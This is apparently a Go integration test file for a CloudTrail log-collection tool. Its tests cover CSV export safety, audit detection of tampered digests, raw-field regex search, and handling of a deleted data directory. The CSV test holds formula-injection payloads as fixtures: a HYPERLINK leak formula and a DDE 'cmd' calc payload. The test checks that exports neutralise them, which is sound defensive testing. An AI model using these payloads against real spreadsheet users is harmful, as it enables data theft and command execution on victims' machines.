package integration

import (
	"crypto/rand"
	"crypto/rsa"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/trawlhq/trawl/internal/audit"
	"github.com/trawlhq/trawl/internal/gen"
	"github.com/trawlhq/trawl/internal/testutil/s3server"
)

// TestCSVExportNeutralisesFormulas: a hostile userAgent (and other text
// starting with a formula character) reaches every CSV path — the API's
// export, `trawl search --format csv` streamed and with --limit — as a
// quoted cell with a single quote in front, so a spreadsheet shows it as
// text; the NDJSON export keeps it exact.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	srv := s3server.Start(t)
	srv.Fill(t, "evil", nil)
	const agent = `=HYPERLINK("http://127.0.0.1/?leak="&A1,"open")`
	hostile := map[string]string{"=": agent, "+": "+1+cmd|' /C calc'!A0", "-": "-2+3", "@": "@SUM(1+1)", "\t": "\t=1+1", "\r": "\r=1+1"}
	var recs []map[string]any
	for _, ua := range hostile {
		ev := ctEvent("iam.amazonaws.com", "GetUser", time.Now().Add(-time.Minute))
		ev["userAgent"] = ua
		ev["eventID"] = fmt.Sprintf("ua-%d", len(recs))
		recs = append(recs, ev)
	}
	putEvents(t, srv, "evil", recs...)
	data := t.TempDir()
	s := serveAPI(t, data)
	addConnector(t, srv, data, "evil", "evil", "AWSLogs/"+acct+"/CloudTrail", srv.SecretKey)
	mustTrawl(t, data, "collect", "--once", "evil")

	export := func(format string) string {
		req, _ := http.NewRequest("GET", s.base+"/api/v1/export?from=-7d&format="+format+"&columns=event_id,user_agent", nil)
		req.Header.Set("Authorization", "Bearer "+s.root)
		resp, err := (&http.Client{Timeout: time.Minute}).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != 200 {
			t.Fatalf("export %s: %d %s", format, resp.StatusCode, b)
		}
		return string(b)
	}
	outputs := map[string]string{
		"API export":                export("csv"),
		"trawl search --format csv": mustTrawl(t, data, "search", "--from", "-7d", "--format", "csv", "--columns", "event_id,user_agent"),
		"trawl search --limit":      mustTrawl(t, data, "search", "--from", "-7d", "--format", "csv", "--columns", "event_id,user_agent", "--limit", "100"),
	}
	for path, out := range outputs {
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(rows) != len(hostile)+1 {
			t.Errorf("%s: %d rows (%v), want %d:\n%s", path, len(rows), err, len(hostile)+1, out)
			continue
		}
		var agents []string
		for _, r := range rows[1:] {
			agents = append(agents, r[1])
		}
		for _, ua := range hostile {
			if !slices.Contains(agents, "'"+ua) {
				t.Errorf("%s: no neutralised cell '%q among %q", path, ua, agents)
			}
		}
		// Every cell is quoted: each line starts with a quote and holds
		// no unquoted separator.
		for _, l := range strings.Split(strings.TrimSuffix(out, "\r\n"), "\r\n") {
			if !strings.HasPrefix(l, `"`) || !strings.HasSuffix(l, `"`) {
				t.Errorf("%s: a line with an unquoted cell: %q", path, l)
			}
		}
	}
	var exact []string
	for _, l := range strings.Split(strings.TrimSpace(export("ndjson")), "\n") {
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatalf("ndjson line %q: %v", l, err)
		}
		exact = append(exact, m["user_agent"].(string))
	}
	for _, ua := range hostile {
		if !slices.Contains(exact, ua) {
			t.Errorf("NDJSON export changed %q: %q", ua, exact)
		}
	}
}

// TestAuditFailsOnTamperedDigest: `trawl audit` exits 1 when a digest's
// signature does not verify or the digest chain has a gap, though every
// log file is collected and unaltered, and /metrics counts those hours in
// trawl_audit_tampered_digests; a trail without digests (log file
// validation off) and one audited without its public keys stay exit 0:
// they are gaps in what could be checked, not tampering.
func TestAuditFailsOnTamperedDigest(t *testing.T) {
	srv := s3server.Start(t)
	data := t.TempDir()
	hour0 := time.Now().UTC().Add(-7 * time.Hour).Truncate(time.Hour)
	logs := gen.CloudTrail(gen.CloudTrailSpec{Seed: 11, Accounts: []string{acct}, Regions: []string{"us-east-1"}, Start: hour0,
		Span: 4 * time.Hour, Objects: 8, RecordsPerObj: 3})
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	keysFile := filepath.Join(t.TempDir(), "keys.json")
	if err := os.WriteFile(keysFile, audit.KeysJSON(map[string]*rsa.PublicKey{gen.Fingerprint(&key.PublicKey): &key.PublicKey}, hour0, hour0.Add(48*time.Hour)), 0o600); err != nil {
		t.Fatal(err)
	}
	signed := func(bucketName string) []gen.Object {
		ds, err := gen.SignedDigests(bucketName, logs, key)
		if err != nil || len(ds) != 4 {
			t.Fatalf("%d digests (%v), want 4", len(ds), err)
		}
		return ds
	}
	// "sig": hour 1's digest carries another signature; "gap": hour 2's
	// digest is deleted; "off": no digests at all (its files, uploaded
	// now, are unlisted: their digest may still come).
	sig := signed("sig")
	s := []byte(sig[1].Meta["signature"])
	s[10] = "0123456789abcdef"[(strings.IndexByte("0123456789abcdef", s[10])+1)%16]
	sig[1].Meta = map[string]string{"signature": string(s)}
	gap := signed("gap")
	gap = append(gap[:2:2], gap[3:]...)
	for name, digests := range map[string][]gen.Object{"sig": sig, "gap": gap, "off": nil} {
		bucket(t, srv, name, append(append([]gen.Object{}, logs...), digests...))
		addConnector(t, srv, data, name, name, "AWSLogs/"+acct+"/CloudTrail", srv.SecretKey)
	}
	mustTrawl(t, data, "collect", "--once")
	env := []string{"TRAWL_PUBLIC_KEYS=" + keysFile}
	for _, c := range []struct {
		name, env, kind string
		code            int
	}{{"sig", env[0], "bad_signature", 1}, {"gap", env[0], "broken_chain", 1}, {"off", env[0], "", 0}, {"sig", "", "no_key", 0}} {
		dir := data
		if c.env == "" {
			// Without the keys: a data directory that never had them.
			dir = t.TempDir()
			addConnector(t, srv, dir, c.name, c.name, "AWSLogs/"+acct+"/CloudTrail", srv.SecretKey)
			mustTrawl(t, dir, "collect", "--once")
		}
		r := trawl(t, dir, []string{c.env}, "audit", "--format", "json", "--from", "-24h", c.name)
		var rows []struct {
			Status, Kind     string
			Missing, Altered []string
		}
		if err := json.Unmarshal([]byte(r.stdout), &rows); err != nil {
			t.Fatalf("audit %s: %v\n%s\n%s", c.name, err, r.stdout, r.stderr)
		}
		kinds := map[string]int{}
		for _, row := range rows {
			if len(row.Missing)+len(row.Altered) > 0 {
				t.Errorf("audit %s: files missing or altered: %+v", c.name, row)
			}
			kinds[row.Kind]++
		}
		if r.code != c.code || kinds[c.kind] == 0 {
			t.Errorf("audit %s (keys %v): exit %d, kinds %v; want exit %d with a %s hour\nstderr: %s", c.name, c.env != "", r.code, kinds, c.code, c.kind, r.stderr)
		}
		if c.code == 1 && !strings.Contains(r.stderr, "tampered") {
			t.Errorf("audit %s: stderr does not say why it failed: %s", c.name, r.stderr)
		}
	}
	api := serveAPI(t, data, "--no-schedule")
	req, _ := http.NewRequest("GET", api.base+"/metrics", nil)
	req.Header.Set("Authorization", "Bearer "+api.root)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	metrics, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	for name, n := range map[string]int{"sig": 1, "gap": 1, "off": 0} {
		want := fmt.Sprintf(`trawl_audit_tampered_digests{tenant="acme",connector=%q,sub_type="cloudtrail"} %d`, name, n)
		if !strings.Contains(string(metrics), want) {
			t.Errorf("metrics lack %s", want)
		}
	}
}

// TestRawFieldRegex: a regular expression on a raw field matches anywhere
// in the value (RE2, as on normal fields) in a search, through the CLI and
// the API, and in a log filter (the in-memory evaluator); an invalid one is
// refused with a 400 naming the field, not taken as an exact string.
func TestRawFieldRegex(t *testing.T) {
	srv := s3server.Start(t)
	srv.Fill(t, "mfa", nil)
	var recs []map[string]any
	for i, mfa := range []string{"No", "No", "No", "Yes", "/No/"} {
		ev := ctEvent("signin.amazonaws.com", "ConsoleLogin", time.Now().Add(-time.Minute))
		ev["eventID"] = fmt.Sprintf("mfa-%d", i)
		ev["additionalEventData"] = map[string]any{"MFAUsed": mfa}
		recs = append(recs, ev)
	}
	putEvents(t, srv, "mfa", recs...)
	data := t.TempDir()
	s := serveAPI(t, data, "--no-schedule")
	addConnector(t, srv, data, "mfa", "mfa", "AWSLogs/"+acct+"/CloudTrail", srv.SecretKey)
	mustTrawl(t, data, "collect", "--once", "mfa")
	counts := map[string]int{`/No/`: 4, `/^No$/`: 3, `/N./`: 4, `/^Y/`: 1, `/(?i)^(no|yes)$/`: 4, `/\/No\//`: 1, `No`: 3, `"/No/"`: 1}
	for re, want := range counts {
		q := "raw.additionalEventData.MFAUsed:" + re
		if n := count(t, data, q); n != want {
			t.Errorf("trawl search --count %s: %d, want %d", q, n, want)
		}
		code, r := s.call(s.root, "GET", "/api/v1/count?from=-7d&q="+url.QueryEscape(q), nil)
		if code != 200 || r["count"] != float64(want) {
			t.Errorf("GET /api/v1/count %s: %d %v, want %d", q, code, r, want)
		}
	}
	code, r := s.call(s.root, "GET", "/api/v1/count?from=-7d&q="+url.QueryEscape("raw.additionalEventData.MFAUsed:/(/"), nil)
	if code != 400 || !strings.Contains(fmt.Sprint(r), "raw.additionalEventData.MFAUsed") || !strings.Contains(fmt.Sprint(r), "regular expression") {
		t.Errorf("an invalid regex: %d %v, want 400 naming the field", code, r)
	}
	if r := trawl(t, data, nil, "search", "--count", "--from", "-7d", "raw.additionalEventData.MFAUsed:/(/"); r.code == 0 || !strings.Contains(r.stderr, "regular expression") {
		t.Errorf("trawl search with an invalid regex: exit %d, %s", r.code, r.stderr)
	}
	// A log filter keeping /^No$/ stores exactly those records.
	srv.Fill(t, "mfa2", nil)
	putEvents(t, srv, "mfa2", recs...)
	body := connBody(srv, "mfa-filtered", "other", "mfa2", "AWSLogs/"+acct+"/CloudTrail", srv.SecretKey)
	body["filters"] = []map[string]string{{"action": "keep", "query": "raw.additionalEventData.MFAUsed:/^No$/"}}
	code, c := s.call(s.root, "POST", "/api/v1/connectors", body)
	if code != 201 {
		t.Fatalf("create a connector with a raw regex filter: %d %v", code, c)
	}
	_, run := s.call(s.root, "POST", "/api/v1/connectors/"+c["id"].(string)+"/collect", nil)
	if st, _ := run["stats"].(map[string]any); st == nil || st["records"] != float64(3) || st["dropped"] != float64(2) {
		t.Errorf("a keep filter raw.additionalEventData.MFAUsed:/^No$/: %v, want 3 stored and 2 dropped", run)
	}
	body["name"], body["filters"] = "bad-filter", []map[string]string{{"action": "drop", "query": "raw.additionalEventData.MFAUsed:/(/"}}
	if code, r := s.call(s.root, "POST", "/api/v1/connectors", body); code != 400 || !strings.Contains(fmt.Sprint(r), "filters") {
		t.Errorf("a filter with an invalid raw regex: %d %v, want 400 naming filters", code, r)
	}
}

// TestOverviewHuntCountsItsConnector: the overview's hunt of a connector
// whose name holds quotes or a backslash counts exactly that connector's
// records through the API (the hunt strings come from query.Quote).
func TestOverviewHuntCountsItsConnector(t *testing.T) {
	srv := s3server.Start(t)
	e := newAPI(t)
	want := map[string]int{`prod "x" trail`: 5, "prod": 3, `c:\trail "q"`: 2, "x": 4}
	i := 0
	for name, n := range want {
		i++
		bucketName := fmt.Sprintf("ov-%d", i)
		srv.Fill(t, bucketName, nil)
		var recs []map[string]any
		for j := range n {
			ev := ctEvent("s3.amazonaws.com", "GetObject", time.Now().Add(-time.Minute))
			ev["eventID"] = fmt.Sprintf("%s-%d", bucketName, j)
			recs = append(recs, ev)
		}
		putEvents(t, srv, bucketName, recs...)
		code, c, _ := e.call(e.root, "POST", "/api/v1/connectors", connBody(srv, name, "acme", bucketName, "AWSLogs/"+acct+"/CloudTrail", srv.SecretKey))
		if code != 201 {
			t.Fatalf("create %q: %d %v", name, code, c)
		}
		if _, run, _ := e.call(e.root, "POST", "/api/v1/connectors/"+c["id"].(string)+"/collect", nil); run["stats"].(map[string]any)["records"] != float64(n) {
			t.Fatalf("collect %q: %v", name, run)
		}
	}
	_, o, _ := e.call(e.root, "GET", "/api/v1/overview?tenant=acme", nil)
	conns, _ := o["connectors"].([]any)
	if len(conns) != len(want) {
		t.Fatalf("overview of %d connectors: %v", len(want), o)
	}
	for _, c := range conns {
		c := c.(map[string]any)
		name, q := c["connector"].(string), c["query"].(string)
		code, r, _ := e.call(e.root, "GET", "/api/v1/count?tenant=acme&from=-7d&q="+url.QueryEscape(q), nil)
		if code != 200 || r["count"] != float64(want[name]) {
			t.Errorf("overview hunt of %q is %s: %d %v, want %d records", name, q, code, r, want[name])
		}
	}
}

// TestDataDirDeletedUnderServer: with its data directory deleted under a
// running server, /readyz answers 503 naming the data directory, and a
// run — with nothing new or with a new object — fails saying why instead
// of reporting ok.
func TestDataDirDeletedUnderServer(t *testing.T) {
	srv := s3server.Start(t)
	srv.Fill(t, "gone", nil)
	putEvents(t, srv, "gone", ctEvent("iam.amazonaws.com", "GetUser", time.Now().Add(-time.Minute)))
	data := t.TempDir()
	s := serveAPI(t, data, "--no-schedule")
	addConnector(t, srv, data, "gone", "gone", "AWSLogs/"+acct+"/CloudTrail", srv.SecretKey)
	if row := collectRow(t, mustTrawl(t, data, "collect", "--once", "gone"), "gone"); row["RECORDS"] != "1" {
		t.Fatalf("first run: %v", row)
	}
	if code, r := s.call("", "GET", "/readyz", nil); code != 200 || r["status"] != "ready" {
		t.Fatalf("readyz of a healthy server: %d %v", code, r)
	}
	_, list := s.call(s.root, "GET", "/api/v1/connectors", nil)
	id := list["connectors"].([]any)[0].(map[string]any)["id"].(string)
	if err := os.RemoveAll(data); err != nil {
		t.Fatal(err)
	}
	code, r := s.call("", "GET", "/readyz", nil)
	if reason, _ := r["reason"].(string); code != 503 || r["status"] != "not ready" || !strings.Contains(reason, "data directory") || !strings.Contains(reason, "missing") {
		t.Errorf("readyz with the data directory deleted: %d %v, want 503 naming it", code, r)
	}
	if reason, _ := r["reason"].(string); strings.Contains(reason, data) {
		t.Errorf("readyz tells anyone the server's paths: %q", reason)
	}
	for _, upload := range []bool{false, true} {
		if upload {
			putEvents(t, srv, "gone", ctEvent("iam.amazonaws.com", "GetRole", time.Now().Add(-time.Minute)))
		}
		code, res := s.call(s.root, "POST", "/api/v1/connectors/"+id+"/collect", nil)
		run, _ := res["run"].(map[string]any)
		if reason, _ := run["reason"].(string); code != 200 || run["result"] != "failed" || !strings.Contains(reason, "data directory") {
			t.Errorf("a run (new object: %v) with the data directory deleted: %d %v, want failed naming the data directory", upload, code, res)
		}
	}
}
